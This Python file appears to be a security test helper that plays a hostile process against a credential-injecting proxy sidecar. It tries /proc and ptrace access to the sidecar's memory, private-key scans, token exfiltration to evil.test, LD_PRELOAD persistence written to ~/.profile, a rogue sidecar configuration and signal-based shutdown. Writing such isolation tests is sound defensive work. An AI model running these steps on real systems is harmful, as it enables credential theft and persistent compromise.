"""What a program tries that `run` started and that turns against it. One JSON object a line.

`child.py attack` is that program; `child.py probe PORT [USER:PASSWORD]` is somebody else who found
the port; `child.py fetch URL` sends one request through the proxy of its environment.
"""

import base64
import ctypes
import errno
import json
import os
import pathlib
import re
import resource
import select
import signal
import socket
import subprocess
import sys
import time
import urllib.parse

LIBC = ctypes.CDLL(None, use_errno=True)
SIDECAR = os.getppid()
SECONDS = 10
# With the first bytes of one: a program holds the words alone.
PRIVATE_KEY = re.compile(rb"-----BEGIN [A-Z ]*PRIVATE KEY-----\s+[A-Za-z0-9+/]{16}")
PTRACE_ATTACH, PTRACE_SEIZE, PIDFD_GETFD = 16, 0x4206, 438

# What anybody may read of any process, and what opens only to who may trace it.
PUBLIC = ["cmdline", "comm", "limits", "stat", "status"]
CLOSED = [
    "auxv", "cwd", "environ", "exe", "fd", "fdinfo", "io", "map_files", "maps", "mem", "ns/net", "pagemap",
    "personality", "root", "smaps", "stack", "syscall", "task/{}/environ", "task/{}/maps", "task/{}/mem",
]


def say(attempt, worked, how):
    print(json.dumps({"attempt": attempt, "worked": bool(worked), "how": str(how)}), flush=True)


def proxy():
    return urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])


def look(path):
    """What of an entry below /proc can be had: bytes, names or a link; or why not."""
    for way in (os.listdir, os.readlink, lambda path: open(path, "rb").read(64)):
        try:
            return way(path), None
        except OSError as error:
            if error.errno not in (errno.ENOTDIR, errno.EINVAL, errno.EISDIR):
                return None, errno.errorcode[error.errno]
    return None, "nothing"


def own_environment():
    text = json.dumps(dict(os.environ))
    password = proxy().password
    # git is told by a setting of its own, beside the variables of proxies.
    elsewhere = [
        name for name, value in os.environ.items()
        if password in value and not name.lower().endswith("_proxy")
        and not (name.startswith("GIT_CONFIG_VALUE_") and value == os.environ["HTTPS_PROXY"])
    ]
    ours = [name for name in os.environ if name.upper().startswith("NEXUS")]
    say("environment", elsewhere or ours, {"password in": elsewhere, "ours": ours, "all": text})


def proc_entries():
    base = f"/proc/{SIDECAR}/"
    tasks = os.listdir(base + "task")
    got = {}
    for entry in CLOSED:
        for task in tasks if "{}" in entry else tasks[:1]:
            seen, why = look(base + entry.format(task))
            if seen:
                got[entry] = repr(seen)[:80]
    public = {entry: repr(look(base + entry)[0]) for entry in PUBLIC}
    say("proc", got or proxy().password in repr(public), {"got": got, "public": public})


def denied(result):
    return result == -1 and ctypes.get_errno() in (errno.EPERM, errno.EACCES)


def tracing():
    vector = (ctypes.c_size_t * 2)(ctypes.addressof(ctypes.create_string_buffer(8)), 8)
    there = (ctypes.c_size_t * 2)(0x1000, 8)
    pidfd = os.pidfd_open(SIDECAR)
    calls = {
        "ptrace attach": lambda: LIBC.ptrace(PTRACE_ATTACH, SIDECAR, 0, 0),
        "ptrace seize": lambda: LIBC.ptrace(PTRACE_SEIZE, SIDECAR, 0, 0),
        "process_vm_readv": lambda: LIBC.process_vm_readv(SIDECAR, vector, 1, there, 1, 0),
        "process_vm_writev": lambda: LIBC.process_vm_writev(SIDECAR, vector, 1, there, 1, 0),
    }
    calls |= {f"pidfd_getfd {n}": lambda n=n: LIBC.syscall(PIDFD_GETFD, pidfd, n, 0) for n in range(16)}
    # Bad arguments are an error of their own, which only who was let in gets to see.
    worked = {name: ctypes.get_errno() for name, call in calls.items() if not denied(call())}
    say("tracing", worked, worked or f"{len(calls)} calls were not permitted")


def inherited():
    held = {}
    for number in os.listdir("/proc/self/fd"):
        try:
            held[int(number)] = os.readlink(f"/proc/self/fd/{number}")
        except OSError:
            pass  # the one that listed
    more = {number: link for number, link in held.items() if number > 2}
    shared = [line.split()[-1] for line in open("/proc/self/maps") if line.split()[1].endswith("s") and "w" in line.split()[1]]
    say("inherited", more or shared, {"descriptors": more, "shared": shared})


def keys_of_the_ca():
    """A private key in any file that this user can read below its home."""
    found = []
    for path in pathlib.Path(os.environ["HOME"]).rglob("*"):
        try:
            if path.is_file() and PRIVATE_KEY.search(path.read_bytes()):
                found.append(str(path))
        except OSError:
            pass
    say("ca", found, found or "no private key in any file below the home")


def status(target, headers, seconds=SECONDS, port=None):
    """Sends a head to the proxy; the status and the rest of the answer's head and body."""
    with socket.create_connection(("127.0.0.1", port or proxy().port), seconds) as stream:
        stream.settimeout(seconds)
        stream.sendall(f"{target} HTTP/1.1\r\n{headers}Connection: close\r\n\r\n".encode())
        answer = b""
        while piece := stream.recv(65536):
            answer += piece
            if target.startswith("CONNECT") and b"\r\n\r\n" in answer:
                break
    return int(answer.split()[1]), answer.decode()


def placeholder_elsewhere():
    token = os.environ["PLACEHOLDER"]
    answers = [
        status("GET http://evil.test/", f"Host: evil.test\r\n{line}\r\n")
        for line in (f"Authorization: Bearer {token}", f"Cookie: a={token}")
    ]
    answers.append(status(f"GET http://evil.test/?t={token}", "Host: evil.test\r\n"))
    worked = [code for code, text in answers if code != 403 or "placeholder of github" not in text]
    say("placeholder", worked, worked or answers[0][1].splitlines()[-1])


def key_and_store():
    data = pathlib.Path(os.environ["HOME"], ".local/share/nexus-sidecar")
    got = {name: len((data / name).read_bytes()) for name in ("key", "store.db") if (data / name).exists()}
    say("key file", len(got) == 2, got)


def writable(path):
    try:
        with open(path, "r+b"):
            return True
    except OSError:
        return False


def audit():
    state = pathlib.Path(os.environ["HOME"], ".local/state/nexus-sidecar")
    files = [str(path) for path in state.rglob("*") if path.is_file() and writable(path)]
    say("audit", any("audit" in name for name in files), files)


def later_runs():
    home = pathlib.Path(os.environ["HOME"])
    policy = writable(home / ".config/nexus-sidecar/policy.yaml")
    with open(home / ".profile", "a") as file:
        file.write("export LD_PRELOAD=/tmp/mine.so\n")
    say("later runs", policy, "the policy, and LD_PRELOAD in .profile")


def own_sidecar():
    """Runs the tool itself, with a configuration that sends the credential here."""
    home = pathlib.Path(os.environ["HOME"])
    with socket.create_server(("127.0.0.1", 0)) as listener:
        port = listener.getsockname()[1]
        rule = f"{{ host: known.test, port: {port}, connection: api, plaintext: true, networks: [127.0.0.0/8] }}"
        (home / "evil-policy.yaml").write_text(f"version: 1\nrules: [{rule}]\n")
        (home / "evil.yaml").write_text("version: 1\nupstream: { hosts: { known.test: 127.0.0.1 } }\n" + os.environ["KEY_CONFIG"])
        command = [os.environ["SIDECAR"], "run", "--config", home / "evil.yaml", "--policy", home / "evil-policy.yaml"]
        command += ["--", sys.executable, __file__, "fetch", f"http://known.test:{port}/"]
        environment = {n: v for n, v in os.environ.items() if not n.lower().endswith("_proxy")}
        child = subprocess.Popen(command, env=environment, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
        pidfd = os.pidfd_open(child.pid)
        ready, _, _ = select.select([listener, pidfd], [], [], 3 * SECONDS)
        got = b""
        if listener in ready:
            stream, _ = listener.accept()
            got = stream.recv(65536)
            stream.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
            stream.close()
        said = child.communicate(timeout=3 * SECONDS)[0]
    say("own sidecar", b"uthorization: Bearer " in got, got.decode() or said.decode())


def around():
    with socket.create_connection(("127.0.0.1", int(os.environ["DIRECT"])), SECONDS) as stream:
        say("around", True, stream.getpeername())


def stopped():
    tasks = pathlib.Path(f"/proc/{SIDECAR}/task").iterdir()
    return all((task / "stat").read_text().rsplit(")", 1)[1].split()[0] == "T" for task in tasks)


def stopping():
    """A sidecar that is stopped or gone answers nobody: there is no way past it by that."""
    connect = ("CONNECT known.test:443", "Host: known.test:443\r\n")
    before = status(*connect)[0]
    os.kill(SIDECAR, signal.SIGSTOP)
    # The signal is on its way; a thread on another CPU may go on until it arrives.
    give_up = time.monotonic() + SECONDS
    while not stopped() and time.monotonic() < give_up:
        os.sched_yield()
    try:
        while_stopped = status(*connect, seconds=1)[0]
    except OSError as error:
        while_stopped = type(error).__name__
    os.kill(SIDECAR, signal.SIGCONT)
    after = status(*connect)[0]
    port, pidfd = proxy().port, os.pidfd_open(SIDECAR)
    # As much of a core as the hard limit lets anybody ask for.
    hard = resource.prlimit(SIDECAR, resource.RLIMIT_CORE)[1]
    resource.prlimit(SIDECAR, resource.RLIMIT_CORE, (hard, hard))
    os.kill(SIDECAR, signal.SIGABRT)
    select.select([pidfd], [], [], SECONDS)
    try:
        gone = status(*connect, port=port)[0]
    except OSError as error:
        gone = type(error).__name__
    say("signals", True, {"before": before, "stopped": while_stopped, "after": after, "gone": gone})


def starter():
    """The program that started the sidecar, which keeps the environment that it was given."""
    of_sidecar = open(f"/proc/{SIDECAR}/stat").read().rsplit(")", 1)[1].split()
    try:
        pairs = open(f"/proc/{of_sidecar[1]}/environ", "rb").read().split(b"\0")
        names = [pair.split(b"=")[0].decode() for pair in pairs]
    except OSError as error:
        names = [str(error)]
    say("starter", "NEXUS_TOKEN" in names, [name for name in names if "TOKEN" in name] or names)


def attack():
    # First, before it opens files of its own.
    inherited()
    own_environment()
    proc_entries()
    tracing()
    keys_of_the_ca()
    placeholder_elsewhere()
    # Others try the port meanwhile.
    print(json.dumps({"proxy": proxy().netloc}), flush=True)
    sys.stdin.readline()
    key_and_store()
    audit()
    own_sidecar()
    later_runs()
    around()
    stopping()


def probe(port, credentials=None):
    line = ""
    if credentials:
        line = f"Proxy-Authorization: Basic {base64.b64encode(credentials.encode()).decode()}\r\n"
    print(status("CONNECT known.test:443", f"Host: known.test:443\r\n{line}", port=int(port))[0])


def fetch(url):
    host = urllib.parse.urlsplit(url).netloc
    print(status(f"GET {url}", f"Host: {host}\r\n")[0])


if __name__ == "__main__":
    modes = {
        "attack": attack, "keyless": lambda: (key_and_store(), own_sidecar()), "starter": starter, "probe": probe,
        "fetch": fetch,
    }
    modes[sys.argv[1]](*sys.argv[2:])
